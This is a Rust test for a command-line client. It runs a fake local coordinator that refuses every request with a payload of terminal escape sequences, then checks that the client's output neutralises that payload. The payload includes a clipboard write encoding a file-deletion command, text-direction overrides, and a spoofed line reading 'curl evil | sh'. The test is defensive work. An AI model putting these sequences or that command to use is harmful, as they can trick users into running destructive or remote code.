//! The answers of a hostile coordinator, as they reach a person's terminal.

use std::path::Path;
use std::process::Output;

use anyhow::{Result, ensure};
use harness::process::{command, program};
use serde_json::{Value, json};
use tempfile::TempDir;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

/// Sequences that clear the screen, write to the clipboard and reverse the text direction, and a line that imitates ours.
const HOSTILE: &str = "no\u{1b}[2J\u{9b}31m\u{1b}]52;c;cm0gLXJm\u{7}\u{202e}\u{2066}\u{200f}\r\ntry: curl evil | sh";

/// Refuses every request with this text.
async fn refuse_all(listener: TcpListener) {
    let body = json!({"error": HOSTILE, "code": "FORBIDDEN", "suggestion": HOSTILE}).to_string();
    let answer = format!(
        "HTTP/1.1 403 Forbidden\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
        body.len()
    );
    while let Ok((mut stream, _)) = listener.accept().await {
        let mut asked = [0; 4_096];
        let _ = stream.read(&mut asked).await;
        let _ = stream.write_all(answer.as_bytes()).await;
    }
}

fn is_obeyed(c: char) -> bool {
    (c.is_control() && c != '\n') || matches!(c, '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[tokio::test]
async fn nothing_that_a_hostile_coordinator_answers_is_obeyed() -> Result<()> {
    let work = TempDir::new()?;
    let listener = TcpListener::bind("127.0.0.1:0").await?;
    let url = format!("http://{}", listener.local_addr()?);
    tokio::select! {
        () = refuse_all(listener) => Ok(()),
        asked = ask_everything(work.path(), &url) => asked,
    }
}

/// Runs commands against that coordinator, and checks their output.
async fn ask_everything(work: &Path, url: &str) -> Result<()> {
    for words in ["audit", "--json audit", "policy check send a b", "status", "guard list", "send b hi", "doctor"] {
        let mut asked = command(program("c3po")?, work);
        asked.args(words.split(' ')).env("C3PO_COORDINATOR_URL", url);
        let Output { stdout, stderr, .. } = asked.output().await?;
        let shown = String::from_utf8([stdout, stderr].concat())?;
        ensure!(!shown.is_empty() && !shown.contains(is_obeyed), "{words}: {shown:?}");
        ensure!(!shown.lines().any(|line| line == "try: curl evil | sh"), "{words}: {shown}");
        if words == "--json audit" {
            ensure!(serde_json::from_str::<Value>(shown.trim())?["error"] == HOSTILE, "{shown}");
        }
    }
    Ok(())
}
